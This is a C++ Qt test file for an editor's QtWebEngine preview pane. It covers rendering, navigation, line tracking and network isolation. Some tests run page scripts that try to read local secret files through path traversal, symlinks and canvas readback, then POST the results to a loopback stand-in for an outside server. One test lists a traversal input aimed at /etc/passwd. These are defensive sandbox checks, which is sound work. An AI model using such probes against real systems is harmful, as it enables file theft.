// The real QtWebEngine pane, offscreen: what it shows and where its links lead, which files a
// page's scripts can read (none outside what the engine's own rules allow), what leaves the
// machine, how it follows the editor's lines, and how it shows a stream of new versions.

#include "MainFormHarness.h"

#include <WebPreview.h>
#include <preview/PageLines.h>

#include <QApplication>
#include <QDesktopServices>
#include <QImage>
#include <QNetworkDatagram>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>
#include <QWebEngineHistory>
#include <QWebEnginePage>
#include <QWebEngineView>

using namespace qrn;
using namespace qrn::test;

namespace {

QVariant runJs(QWebEngineView *view, const QString &script)
{
    QVariant result;
    bool done = false;
    view->page()->runJavaScript(script, [&](const QVariant &r) {
        result = r;
        done = true;
    });
    (void)QTest::qWaitFor([&] { return done; }, 10000);
    return result;
}

// Runs a script that sets window.outcome once its asynchronous work is over, and returns that.
QString outcomeOf(QWebEngineView *view, const QString &script)
{
    runJs(view, QStringLiteral("window.outcome = undefined;\n") + script);
    QVariant outcome;
    (void)QTest::qWaitFor([&] { return (outcome = runJs(view, QStringLiteral("window.outcome"))).isValid(); }, 30000);
    return outcome.toString();
}

QString plainText(QWebEngineView *view)
{
    QString text;
    bool done = false;
    view->page()->toPlainText([&](const QString &t) {
        text = t;
        done = true;
    });
    (void)QTest::qWaitFor([&] { return done; }, 10000);
    return text;
}

bool waitForLoad(PreviewView &pane, const std::function<void()> &action)
{
    QSignalSpy spy(&pane, &PreviewView::loadFinished);
    action();
    return spy.wait(30000);
}

bool loadAndWait(WebPreview &pane, const QString &path)
{
    return waitForLoad(pane, [&] { pane.navigate(path); });
}

bool writePng(const QString &path, QColor color)
{
    QImage image(4, 4, QImage::Format_RGB32);
    image.fill(color);
    return image.save(path);
}

// A long page, one paragraph per line after the first: paragraph k is on line k + 1.
QByteArray longPage(int paragraphs, const QString &extra = {})
{
    QString page = QStringLiteral("<html><body style='margin:0'>\r\n");
    for (int k = 0; k < paragraphs; ++k)
        page += QStringLiteral("<p style='margin:0;height:20px'>行 %1%2</p>\r\n").arg(k).arg(k == paragraphs / 2 ? extra : QString());
    return sjis(page + QStringLiteral("</body></html>\r\n"));
}

// Listeners on the loopback interface standing for the world outside: they count every TCP
// connection and UDP datagram that reaches them, and keep what was sent. Each HTTP request is
// answered "404", so that a page waiting for it finishes loading.
class Outside {
public:
    Outside()
    {
        m_tcp.listen(QHostAddress::LocalHost);
        m_udp.bind(QHostAddress::LocalHost);
        QObject::connect(&m_tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_tcp.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead, [this, socket, request = QByteArray()]() mutable {
                    const QByteArray data = socket->readAll();
                    received += data;
                    request += data;
                    const qsizetype headEnd = request.indexOf("\r\n\r\n");
                    static const QRegularExpression length(QStringLiteral("content-length: *(\\d+)"),
                                                           QRegularExpression::CaseInsensitiveOption);
                    const auto match = length.match(QString::fromLatin1(request.left(headEnd)));
                    if (headEnd >= 0 && request.size() >= headEnd + 4 + (match.hasMatch() ? match.captured(1).toInt() : 0)) {
                        socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                        socket->disconnectFromHost();
                        request.clear();
                    }
                });
            }
        });
        QObject::connect(&m_udp, &QUdpSocket::readyRead, [this] {
            while (m_udp.hasPendingDatagrams())
                received += m_udp.receiveDatagram().data(), ++datagrams;
        });
    }

    QString tcpPort() const { return QString::number(m_tcp.serverPort()); }
    QString udpPort() const { return QString::number(m_udp.localPort()); }
    // Waits a little for anything late, since a refused attempt and a slow one look alike at first.
    bool reached(int ms = 1500) const { return QTest::qWaitFor([this] { return connections + datagrams > 0; }, ms); }
    bool got(const QByteArray &text, int ms = 10000) const { return QTest::qWaitFor([&] { return received.contains(text); }, ms); }

    int connections = 0;
    int datagrams = 0;
    QByteArray received;

private:
    QTcpServer m_tcp;
    QUdpSocket m_udp;
};

// Records the URLs a page would have the desktop open in another program.
class DesktopHandler : public QObject {
    Q_OBJECT
public:
    QList<QUrl> opened;
public slots:
    void open(const QUrl &url) { opened << url; }
};

// A pane shown at 400 x 300, on a page of its own folder.
struct ShownPage {
    QTemporaryDir folder;
    QWidget host;
    WebPreview pane{&host};
    QString path = folder.filePath(QStringLiteral("Kiriko_WaitFile.htm"));

    ShownPage()
    {
        host.resize(400, 300);
        pane.widget()->resize(400, 300);
        host.show();
    }
    bool load(const QByteArray &bytes) { return writeBytes(path, bytes) && loadAndWait(pane, path); }
    QWebEngineView *view() const { return pane.view(); }
    int scrollY() const { return runJs(view(), QStringLiteral("window.scrollY")).toInt(); }
    QString text() const { return runJs(view(), QStringLiteral("document.body.innerText")).toString(); }
};

// Every scroll position each visible page reports, and how many loads run at once: for the
// claim that the user never sees a page at another place, and never more than one load at a time.
struct PaneWatch {
    QList<int> visibleScroll;
    int loading = 0, mostLoading = 0;

    explicit PaneWatch(WebPreview &pane)
    {
        for (QWebEngineView *view : pane.widget()->findChildren<QWebEngineView *>()) {
            QWebEnginePage *page = view->page();
            QObject::connect(page, &QWebEnginePage::scrollPositionChanged, [this, &pane, page](const QPointF &at) {
                if (pane.view()->page() == page)
                    visibleScroll << qRound(at.y());
            });
            QObject::connect(page, &QWebEnginePage::loadStarted, [this] { mostLoading = std::max(mostLoading, ++loading); });
            QObject::connect(page, &QWebEnginePage::loadFinished, [this] { --loading; });
        }
    }
};

} // namespace

class WebPreviewTest : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void showsShiftJisPageWithoutCharset();
    void largeFileArrivesWhole();
    void showsTheSiteAroundThePageAndTheWeb();
    void scriptsReadNoLocalFile();
    void originsHoldTheirFolderOnly();
    void scriptsReachTheWebOnlyAsPagesDo();
    void webRtcGathersNoCandidateAndSendsNothing();
    void clickedLinksLeadNowhereOffTheMachine();
    void environmentSwitchesCannotReopenTheNetwork();
    void unwritableScratchFileShowsThePageFromMemory();
    void lineMarkersGoWhereTextIs_data();
    void lineMarkersGoWhereTextIs();
    void textOnlyChangesAreFoundLineByLine_data();
    void textOnlyChangesAreFoundLineByLine();
    void textRunChangesAreFoundInTheirLine_data();
    void textRunChangesAreFoundInTheirLine();
    void previewFollowsLinesBothWays();
    void refreshOfTheSamePageKeepsScrollPosition();
    void burstOfChangesShowsOnlyFinishedVersionsInPlace();
    void textChangesArePatchedOnlyWhereAReloadWouldAgree();
    void mainWindowTitleFollowsTheRealPane();

private:
    // A proxy as the desktop may configure one: nothing is to reach it.
    Outside m_proxy;
};

void WebPreviewTest::initTestCase()
{
    const QByteArray proxy = "http://127.0.0.1:" + m_proxy.tcpPort().toLatin1();
    for (const char *name : {"http_proxy", "https_proxy", "all_proxy"})
        qputenv(name, proxy);
}

void WebPreviewTest::showsShiftJisPageWithoutCharset()
{
    ShownPage page;
    QVERIFY(page.load(sjis(QStringLiteral("<html><body>日本語のページ～＼</body></html>\r\n"))));
    QCOMPARE(page.text(), QStringLiteral("日本語のページ～＼"));
    QVERIFY(!page.pane.goForward());

    // A page that names its own charset is read in it.
    const QString utf8 = page.folder.filePath(QStringLiteral("utf8.html"));
    QVERIFY(writeBytes(utf8, QStringLiteral("<meta charset=\"utf-8\"><body>ＵＴＦ－８の頁</body>").toUtf8()));
    QVERIFY(loadAndWait(page.pane, utf8));
    QCOMPARE(page.text(), QStringLiteral("ＵＴＦ－８の頁"));
    QVERIFY(waitForLoad(page.pane, [&] { QVERIFY(page.pane.goBack()); }));
    QCOMPARE(page.text(), QStringLiteral("日本語のページ～＼"));
}

void WebPreviewTest::largeFileArrivesWhole()
{
    // Text with no charset is peeked at for one before it is streamed: the peek must not eat into it.
    QByteArray line = "0123456789 abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ ~!@#$%^&*()_+ ";
    QByteArray text;
    for (int i = 0; text.size() < 8 * 1024 * 1024; ++i)
        text += QByteArray::number(i) + ' ' + line + '\n';
    quint32 hash = 0;
    for (const char c : std::as_const(text))
        hash = hash * 31 + static_cast<quint8>(c);

    ShownPage page;
    const QString large = page.folder.filePath(QStringLiteral("large.txt"));
    QVERIFY(writeBytes(large, text));
    QVERIFY(loadAndWait(page.pane, large));
    QCOMPARE(runJs(page.view(), QStringLiteral(R"((() => {
        const t = document.body.textContent; let h = 0;
        for (let i = 0; i < t.length; ++i) h = (Math.imul(h, 31) + t.charCodeAt(i)) >>> 0;
        return document.contentType + ' ' + document.characterSet + ' ' + t.length + ' ' + h; })())")).toString(),
             QStringLiteral("text/plain Shift_JIS %1 %2").arg(text.size()).arg(hash));
}

// A page in a subfolder of a site shows what a browser shows for it: the site's images and style
// sheets above it, images from the web, and links that walk the site back and forth.
void WebPreviewTest::showsTheSiteAroundThePageAndTheWeb()
{
    Outside web;
    QTemporaryDir site;
    QVERIFY(QDir(site.path()).mkpath(QStringLiteral("sub")) && QDir(site.path()).mkpath(QStringLiteral("images")));
    QVERIFY(writePng(site.filePath(QStringLiteral("images/logo.png")), Qt::red));
    QVERIFY(writeBytes(site.filePath(QStringLiteral("style.css")), "#box { width: 123px; height: 10px }"));
    QVERIFY(writeBytes(site.filePath(QStringLiteral("index.html")),
                       sjis(QStringLiteral("<a href='nothing.html' style='display:block;height:40px'>x</a><p>目次</p>"
                                                  "<img id=logo src='images/logo.png'>"))));
    const QString path = site.filePath(QStringLiteral("sub/Kiriko_WaitFile.htm"));
    QVERIFY(writeBytes(path, sjis(QStringLiteral("<link rel=stylesheet href='../style.css'>"
                                                 "<a href='../index.html' style='display:block;height:40px'>上へ</a><p>下の頁</p>"
                                                 "<div id=box></div><img id=logo src='../images/logo.png'>"
                                                 "<img src='http://127.0.0.1:%1/from-the-web.png'>")
                                      .arg(web.tcpPort()))));
    ShownPage shown;
    WebPreview &pane = shown.pane;
    QVERIFY(loadAndWait(pane, path));
    QTRY_COMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('logo').naturalWidth")).toInt(), 4);
    QCOMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('box').offsetWidth")).toInt(), 123);
    QVERIFY(web.got("GET /from-the-web.png"));

    // The user clicks the link at the top of each page.
    const auto clickLink = [&] {
        QTRY_VERIFY(pane.view()->focusProxy());
        QTest::mouseClick(pane.view()->focusProxy(), Qt::LeftButton, {}, QPoint(10, 20));
    };
    QVERIFY(waitForLoad(pane, clickLink));
    QVERIFY(pane.view()->url().path().endsWith(QLatin1String("/index.html")));
    QTRY_COMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('logo').naturalWidth")).toInt(), 4);
    QVERIFY(waitForLoad(pane, [&] { QVERIFY(pane.goBack()); }));
    QVERIFY(shown.text().contains(QStringLiteral("下の頁")));
    QVERIFY(waitForLoad(pane, [&] { QVERIFY(pane.goForward()); }));
    QVERIFY(shown.text().contains(QStringLiteral("目次")));

    // A page that is not there: the engine's error page, in Japanese.
    QVERIFY(waitForLoad(pane, clickLink));
    const QString error = plainText(pane.view());
    QVERIFY2(error.contains(QRegularExpression(QStringLiteral("[\\x{3040}-\\x{30FF}\\x{4E00}-\\x{9FFF}]{4}")))
                 && !error.contains(QRegularExpression(QStringLiteral("[A-Za-z]{3,} [A-Za-z]{3,}"))),
             qPrintable(error));
}

// Each way a script might read a local file or folder is tried; what it got is sent to a server
// outside, which must see the report and none of the secrets.
void WebPreviewTest::scriptsReadNoLocalFile()
{
    Outside outside;
    QTemporaryDir root;
    const QDir dir(root.path());
    QVERIFY(dir.mkpath(QStringLiteral("site/sub")) && dir.mkpath(QStringLiteral("private")));
    const QByteArray secret = "SECRET-" + QByteArray::number(QRandomGenerator::global()->generate());
    QVERIFY(writeBytes(root.filePath(QStringLiteral("private/secret.txt")), secret));
    QVERIFY(writeBytes(root.filePath(QStringLiteral("private/secret.html")), "<p>" + secret + "</p>"));
    QVERIFY(writePng(root.filePath(QStringLiteral("private/secret.png")), Qt::green));
    QVERIFY(writeBytes(root.filePath(QStringLiteral("site/own.txt")), "own"));
    QVERIFY(writePng(root.filePath(QStringLiteral("site/own.png")), Qt::red));
    QVERIFY(QFile::link(root.filePath(QStringLiteral("private/secret.html")), root.filePath(QStringLiteral("site/link.html"))));
    QVERIFY(QFile::link(root.filePath(QStringLiteral("private/secret.png")), root.filePath(QStringLiteral("site/link.png"))));
    QVERIFY(QFile::link(root.filePath(QStringLiteral("private")), root.filePath(QStringLiteral("site/linkdir"))));

    ShownPage page;
    page.path = root.filePath(QStringLiteral("site/Kiriko_WaitFile.htm"));
    QVERIFY(page.load("<body>page</body>"));
    const QString fileUrl = QUrl::fromLocalFile(root.filePath(QStringLiteral("private/secret.txt"))).toString();
    const QString fileFolder = QUrl::fromLocalFile(root.filePath(QStringLiteral("private"))).toString() + QLatin1Char('/');
    const QString outcome = outcomeOf(page.view(), QStringLiteral(R"(
        const settle = p => Promise.race([Promise.resolve(p).then(v => String(v), () => 'refused'),
                                          new Promise(r => setTimeout(() => r('pending'), 20000))]);
        const xhr = u => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', u);
            x.onload = () => ok('read:' + x.responseText); x.onerror = no; x.send(); });
        const read = u => fetch(u).then(r => r.text()).then(t => 'read:' + t);
        const frame = u => new Promise(ok => { const f = document.createElement('iframe'); f.src = u;
            f.onload = () => { try { ok(f.contentDocument ? 'read:' + f.contentDocument.documentElement.outerHTML : 'null'); }
                               catch (e) { ok('refused'); } };
            document.body.appendChild(f); });
        const pixel = u => new Promise(ok => { const i = new Image();
            i.onload = () => { const c = document.createElement('canvas'); c.width = c.height = 4; const g = c.getContext('2d');
                g.drawImage(i, 0, 0); try { ok('read:' + g.getImageData(0, 0, 1, 1).data.join()); } catch (e) { ok('tainted'); } };
            i.onerror = () => ok('failed'); i.src = u; });
        const vectors = {
            fetchOwnFile: read('own.txt'), fetchOutsideFile: read('../private/secret.txt'), fetchFolder: read('./'),
            xhrOwnFile: xhr('own.txt'), xhrOutsideFile: xhr('../private/secret.txt'), xhrFolder: xhr('./'),
            xhrOutsideFolder: xhr('../private/'), xhrFileUrl: xhr('FILE_URL'), xhrFileFolder: xhr('FILE_FOLDER'),
            frameOutside: frame('../private/secret.html'), frameSymlink: frame('link.html'),
            frameSymlinkedFolder: frame('linkdir/secret.html'), frameEncodedDots: frame('%2e%2e/private/secret.html'),
            frameEncodedSlash: frame('..%2fprivate%2fsecret.html'), frameFileUrl: frame('FILE_URL'), frameFolder: frame('../private/'),
            canvasOwn: pixel('own.png'), canvasOutside: pixel('../private/secret.png'), canvasSymlink: pixel('link.png'),
            canvasEncodedDots: pixel('%2e%2e/private/secret.png'),
        };
        Promise.all(Object.entries(vectors).map(([name, p]) => settle(p).then(v => name + '=' + v))).then(r => {
            window.outcome = r.join(' ');
            fetch('http://127.0.0.1:PORT/report', { method: 'POST', mode: 'no-cors', body: window.outcome });
        });
    )").replace(QLatin1String("FILE_URL"), fileUrl).replace(QLatin1String("FILE_FOLDER"), fileFolder)
                                          .replace(QLatin1String("PORT"), outside.tcpPort()));
    QVERIFY(outside.got("canvasOwn="));
    QVERIFY2(!outside.received.contains(secret) && !outside.received.contains("0,255,0"), outside.received.constData());
    QCOMPARE(outcome, QStringLiteral(
        "fetchOwnFile=refused fetchOutsideFile=refused fetchFolder=refused xhrOwnFile=refused xhrOutsideFile=refused "
        "xhrFolder=refused xhrOutsideFolder=refused xhrFileUrl=refused xhrFileFolder=refused frameOutside=null "
        "frameSymlink=null frameSymlinkedFolder=null frameEncodedDots=null frameEncodedSlash=null frameFileUrl=null "
        "frameFolder=null canvasOwn=read:255,0,0,255 canvasOutside=tainted canvasSymlink=tainted canvasEncodedDots=tainted"));
}

void WebPreviewTest::originsHoldTheirFolderOnly()
{
    QTemporaryDir work, elsewhere;
    const QString secret = elsewhere.filePath(QStringLiteral("secret.txt"));
    QVERIFY(writeBytes(secret, "secret") && writeBytes(work.filePath(QStringLiteral("own.txt")), "own"));
    QVERIFY(QDir(work.path()).mkdir(QStringLiteral("sub")));
    QVERIFY(QFile::link(secret, work.filePath(QStringLiteral("out.txt"))));
    QVERIFY(QFile::link(elsewhere.path(), work.filePath(QStringLiteral("outdir"))));
    QVERIFY(QFile::link(work.filePath(QStringLiteral("own.txt")), work.filePath(QStringLiteral("in.txt"))));

    LocalOrigins origins;
    const QUrl page = origins.urlInFolder(work.filePath(QStringLiteral("page.htm")));
    const auto in = [&](const QString &name) { return page.resolved(QUrl(name)); };
    const QString own = QFileInfo(work.filePath(QStringLiteral("own.txt"))).canonicalFilePath();
    QCOMPARE(origins.servableFile(in(QStringLiteral("own.txt"))), own);
    QCOMPARE(origins.servableFile(in(QStringLiteral("in.txt"))), own);
    QCOMPARE(origins.servableFile(in(QStringLiteral("sub/..%2fown.txt"))), own);
    for (const char *refused : {".", "sub", "sub/", "out.txt", "outdir/secret.txt", "missing.txt", "..%2f..%2fetc/passwd"})
        QVERIFY2(origins.servableFile(in(QLatin1String(refused))).isEmpty(), refused);
    // An origin of one file holds that file alone.
    const QUrl alone = origins.urlAlone(secret);
    QVERIFY(origins.holds(alone.host(), secret) && !origins.holds(alone.host(), elsewhere.path()));
    QVERIFY(origins.servableFile(alone.resolved(QUrl(QStringLiteral("other.txt")))).isEmpty());
    QCOMPARE(origins.urlInFolder(work.filePath(QStringLiteral("x.htm"))).host(), page.host());
    QVERIFY(alone.host() != page.host());
}

// Web traffic goes out as from a browser (images, fetch, WebSocket); WebTransport stays closed
// and nothing goes through the desktop's proxy.
void WebPreviewTest::scriptsReachTheWebOnlyAsPagesDo()
{
    Outside outside;
    ShownPage page;
    QVERIFY(page.load("<body>page</body>"));
    const QString outcome = outcomeOf(page.view(), QStringLiteral(R"(
        const host = '127.0.0.1:%1', udp = 'https://127.0.0.1:%2/';
        new WebSocket('ws://' + host + '/socket');
        fetch('http://' + host + '/fetch', { mode: 'no-cors' });
        new Image().src = 'http://' + host + '/image';
        Promise.race([new Promise((ok, no) => new WebTransport(udp).ready.then(ok, no)).then(() => 'through', () => 'refused'),
                      new Promise(r => setTimeout(() => r('pending'), 4000))]).then(r => window.outcome = 'webtransport:' + r);
    )").arg(outside.tcpPort(), outside.udpPort()));
    QCOMPARE(outcome, QStringLiteral("webtransport:refused"));
    for (const char *request : {"GET /socket", "Upgrade: websocket", "GET /fetch", "GET /image"})
        QVERIFY2(outside.got(request), request);
    QCOMPARE(outside.datagrams, 0);
    QVERIFY(!m_proxy.reached(0));
}

void WebPreviewTest::webRtcGathersNoCandidateAndSendsNothing()
{
    Outside outside;
    ShownPage page;
    QVERIFY(page.load("<body>page</body>"));
    // A STUN server on the loopback interface, and a relay reached over TCP through the desktop's proxy.
    const QString outcome = outcomeOf(page.view(), QStringLiteral(R"(
        const found = [];
        const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%1'},
            {urls: 'turn:relay.example.com:3478?transport=tcp', username: 'u', credential: 'p'}]});
        pc.createDataChannel('names and contents');
        pc.onicecandidate = e => { if (e.candidate) found.push(e.candidate.candidate); else window.outcome = 'gathered:' + found.join('|'); };
        setTimeout(() => { if (window.outcome === undefined) window.outcome = 'pending:' + found.join('|'); }, 5000);
        pc.createOffer().then(offer => pc.setLocalDescription(offer));
    )").arg(outside.udpPort()));
    QVERIFY2(!outside.reached() && !m_proxy.reached(0), (outside.received + m_proxy.received).left(300).constData());
    QCOMPARE(outcome, QStringLiteral("gathered:"));
}

void WebPreviewTest::clickedLinksLeadNowhereOffTheMachine()
{
    Outside outside;
    DesktopHandler desktop;
    QDesktopServices::setUrlHandler(QStringLiteral("mailto"), &desktop, "open");
    ShownPage page;
    QVERIFY(page.load("<body style='margin:0'><a id=link style='display:block;height:300px'>link</a></body>"));

    // The user clicks a link: to a mail program with the page's text, then to a web server.
    for (const QString &href : {QStringLiteral("mailto:someone@example.com?body=names%20and%20contents"),
                                QStringLiteral("http://127.0.0.1:%1/clicked").arg(outside.tcpPort())}) {
        runJs(page.view(), QStringLiteral("document.getElementById('link').href = '%1';"
                                          " document.body.onclick = () => window.clicked = true; window.clicked = false;").arg(href));
        QTRY_VERIFY(page.view()->focusProxy());
        QTest::mouseClick(page.view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
        QTRY_VERIFY(runJs(page.view(), QStringLiteral("window.clicked")).toBool());
        QVERIFY2(!outside.reached() && !m_proxy.reached(0), outside.received.left(300).constData());
        QVERIFY(desktop.opened.isEmpty());
        QCOMPARE(page.view()->url(), page.pane.urlOfFile(page.path));
    }
    QDesktopServices::unsetUrlHandler(QStringLiteral("mailto"));
}

void WebPreviewTest::environmentSwitchesCannotReopenTheNetwork()
{
    // The engine keeps only the last of two equal switches: features to disable are merged into one.
    QCOMPARE(previewEngineSwitches(QStringLiteral("--disable-gpu  --disable-blink-features=Foo,Bar --lang=en-US"
                                                  " --force-webrtc-ip-handling-policy=default --proxy-server=relay:3128")),
             QStringLiteral("--disable-gpu --disable-blink-features=Foo,Bar,WebTransport"
                            " --force-webrtc-ip-handling-policy=disable_non_proxied_udp --no-proxy-server --lang=ja"));
    const QString once = previewEngineSwitches(QString());
    QCOMPARE(previewEngineSwitches(once), once);
}

void WebPreviewTest::unwritableScratchFileShowsThePageFromMemory()
{
    QTemporaryDir folder;
    QVERIFY(QDir(folder.path()).mkdir(QStringLiteral("img")));
    QVERIFY(writePng(folder.filePath(QStringLiteral("img/logo.png")), Qt::red));
    QVERIFY(QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::ExeOwner));
    const auto writable = qScopeGuard([&] { QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner); });
    const QString path = folder.filePath(QStringLiteral("Kiriko_WaitFile.htm"));
    QWidget host;
    WebPreview pane(&host);
    host.show();
    const auto page = [](const QString &text) {
        return sjis(QStringLiteral("<html><body>\r\n<p id=t>%1</p><img id=logo src='img/logo.png'>\r\n</body></html>\r\n").arg(text));
    };
    QVERIFY(waitForLoad(pane, [&] { pane.showUnsaved(path, page(QStringLiteral("メモリの頁"))); }));
    QCOMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('t').textContent")).toString(), QStringLiteral("メモリの頁"));
    QTRY_COMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('logo').naturalWidth")).toInt(), 4);
    QVERIFY(!QFileInfo::exists(path));
    QVERIFY(waitForLoad(pane, [&] { pane.showUnsaved(path, page(QStringLiteral("次の版"))); }));
    QCOMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('t').textContent")).toString(), QStringLiteral("次の版"));

    // Once the file is written, navigating shows the file again.
    QVERIFY(QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    QVERIFY(writeBytes(path, page(QStringLiteral("ファイルの頁"))));
    QVERIFY(loadAndWait(pane, path));
    QCOMPARE(runJs(pane.view(), QStringLiteral("document.getElementById('t').textContent")).toString(), QStringLiteral("ファイルの頁"));
}

void WebPreviewTest::lineMarkersGoWhereTextIs_data()
{
    QTest::addColumn<QByteArray>("page");
    QTest::addColumn<QByteArray>("charset");
    QTest::addColumn<QByteArray>("marked");
    const auto m = [](int line) { return "<!--qrn-line " + QByteArray::number(line) + "-->"; };
    QTest::newRow("text lines") << QByteArray("<p>a\r\nb\r\n</p>\r\n") << QByteArray("shift_jis")
                                << "<p>a\r\n" + m(1) + "b\r\n" + m(2) + "</p>\r\n";
    QTest::newRow("nothing before the doctype") << QByteArray("<!-- c -->\n\n<!DOCTYPE html>\n<html>") << QByteArray("utf-8")
                                                << "<!-- c -->\n\n<!DOCTYPE html>\n" + m(3) + "<html>";
    QTest::newRow("tag across lines") << QByteArray("<b>\n<p title=\"a\nb>\" class='\n'\nid=x>c\nd") << QByteArray("utf-8")
                                      << "<b>\n" + m(1) + "<p title=\"a\nb>\" class='\n'\nid=x>c\n" + m(5) + "d";
    QTest::newRow("comment across lines") << QByteArray("<b>\n<!--\n-- >\n-->\ny") << QByteArray("utf-8")
                                          << "<b>\n" + m(1) + "<!--\n-- >\n-->\n" + m(4) + "y";
    QTest::newRow("raw text") << QByteArray("<b>\n<script>\nif (a<b)\n</scripts>\n</SCRIPT >\n<textarea>\nt\n</textarea>\ny")
                              << QByteArray("utf-8")
                              << "<b>\n" + m(1) + "<script>\nif (a<b)\n</scripts>\n</SCRIPT >\n" + m(5)
                                     + "<textarea>\nt\n</textarea>\n" + m(8) + "y";
    // 0x83 0x5D is one Shift_JIS character whose second byte is "]".
    QTest::newRow("Shift_JIS bytes in CDATA") << QByteArray("<svg><![CDATA[\x83]]>\nx]]>\ny") << QByteArray("shift_jis")
                                              << "<svg><![CDATA[\x83]]>\nx]]>\n" + m(2) + "y";
    QTest::newRow("plaintext") << QByteArray("<b>\n<plaintext>\na\nb") << QByteArray("utf-8") << "<b>\n" + m(1) + "<plaintext>\na\nb";
    QTest::newRow("no marker at the end") << QByteArray("<p>a</p>\n") << QByteArray("utf-8") << QByteArray("<p>a</p>\n");
    QTest::newRow("charset where < is not itself") << QByteArray("<b>\na") << QByteArray("utf-16le") << QByteArray("<b>\na");
}

void WebPreviewTest::lineMarkersGoWhereTextIs()
{
    QFETCH(QByteArray, page);
    QFETCH(QByteArray, charset);
    QFETCH(QByteArray, marked);
    QCOMPARE(withLineMarkers(page, charset), marked);
}

void WebPreviewTest::textOnlyChangesAreFoundLineByLine_data()
{
    QTest::addColumn<QByteArray>("before");
    QTest::addColumn<QByteArray>("after");
    QTest::addColumn<int>("firstLine");
    QTest::addColumn<QByteArray>("oldLines");
    QTest::addColumn<QByteArray>("newLines"); // empty: no text-only change
    QTest::newRow("a character typed") << QByteArray("<p>\nab\ncd\n</p>\n") << QByteArray("<p>\naXb\ncd\n</p>\n") << 1
                                       << QByteArray("ab\n") << QByteArray("aXb\n");
    QTest::newRow("a line split") << QByteArray("<p>\nab\n</p>\n") << QByteArray("<p>\na\nb\n</p>\n") << 1 << QByteArray("ab\n")
                                  << QByteArray("a\nb\n");
    QTest::newRow("two lines joined") << QByteArray("<p>\na\nb\n</p>\n") << QByteArray("<p>\nab\n</p>\n") << 1
                                      << QByteArray("a\nb\n") << QByteArray("ab\n");
    QTest::newRow("a tag typed") << QByteArray("<p>\nab\n</p>\n") << QByteArray("<p>\na<b>b\n</p>\n") << 0 << QByteArray()
                                 << QByteArray();
    QTest::newRow("the last line") << QByteArray("<p>\nab") << QByteArray("<p>\nabc") << 0 << QByteArray() << QByteArray();
    QTest::newRow("no change") << QByteArray("<p>\na\n") << QByteArray("<p>\na\n") << 0 << QByteArray() << QByteArray();
}

void WebPreviewTest::textOnlyChangesAreFoundLineByLine()
{
    QFETCH(QByteArray, before);
    QFETCH(QByteArray, after);
    QFETCH(QByteArray, newLines);
    const auto change = textLinesChange(before, after);
    QCOMPARE(change.has_value(), !newLines.isEmpty());
    if (change) {
        QTEST(change->firstLine, "firstLine");
        QTEST(change->oldLines, "oldLines");
        QCOMPARE(change->newLines, newLines);
        QCOMPARE(change->newLineCount, int(newLines.count('\n')));
    }
}

void WebPreviewTest::textRunChangesAreFoundInTheirLine_data()
{
    QTest::addColumn<QByteArray>("before");
    QTest::addColumn<QByteArray>("after");
    QTest::addColumn<QList<QByteArray>>("oldRuns");
    QTest::addColumn<int>("run");
    QTest::addColumn<QByteArray>("newRun"); // empty: no change of one run
    QTest::addColumn<bool>("lastLine");
    QTest::newRow("after a tag") << QByteArray("<p>\n<b>ab</b>cd\n</p>\n") << QByteArray("<p>\n<b>ab</b>cXd\n</p>\n")
                                 << QList<QByteArray>{"ab", "cd\n"} << 1 << QByteArray("cXd\n") << false;
    QTest::newRow("on the last line") << QByteArray("<p>\nab<br>cd\n") << QByteArray("<p>\naXb<br>cd\n")
                                      << QList<QByteArray>{"ab", "cd\n"} << 0 << QByteArray("aXb") << true;
    QTest::newRow("inside a tag") << QByteArray("<p title=ab>x\n\n") << QByteArray("<p title=aXb>x\n\n") << QList<QByteArray>{} << 0
                                  << QByteArray() << false;
    QTest::newRow("a line with a script") << QByteArray("<p>\na<script>x</script>b\n\n") << QByteArray("<p>\na<script>x</script>bc\n\n")
                                          << QList<QByteArray>{} << 0 << QByteArray() << false;
    QTest::newRow("text where there was none") << QByteArray("<p>\n<b></b>\n\n") << QByteArray("<p>\n<b>x</b>\n\n")
                                               << QList<QByteArray>{} << 0 << QByteArray() << false;
    QTest::newRow("a line break typed") << QByteArray("<p>\n<b>ab</b>\n\n") << QByteArray("<p>\n<b>a\nb</b>\n\n")
                                        << QList<QByteArray>{} << 0 << QByteArray() << false;
}

void WebPreviewTest::textRunChangesAreFoundInTheirLine()
{
    QFETCH(QByteArray, before);
    QFETCH(QByteArray, after);
    QFETCH(QByteArray, newRun);
    const auto change = textRunChange(before, after);
    QCOMPARE(change.has_value(), !newRun.isEmpty());
    if (change) {
        QCOMPARE(change->line, 1);
        QTEST(change->oldRuns, "oldRuns");
        QTEST(change->run, "run");
        QCOMPARE(change->newRun, newRun);
        QTEST(change->lastLine, "lastLine");
    }
}

void WebPreviewTest::previewFollowsLinesBothWays()
{
    ShownPage page;
    QVERIFY(page.load(longPage(400)));
    // Where a paragraph's text starts in the pane.
    const auto topOf = [&](int paragraph) {
        return runJs(page.view(), QStringLiteral("(() => { const r = document.createRange(), t = document.querySelectorAll('p')[%1].firstChild;"
                                                 " r.setStart(t, 0); r.setEnd(t, 1); return r.getBoundingClientRect().top; })()").arg(paragraph)).toDouble();
    };
    page.pane.followLine(201, 0.0);
    QTRY_VERIFY(qAbs(topOf(200)) < 1);
    page.pane.followLine(101, 0.5);
    const double middle = runJs(page.view(), QStringLiteral("innerHeight / 2")).toDouble();
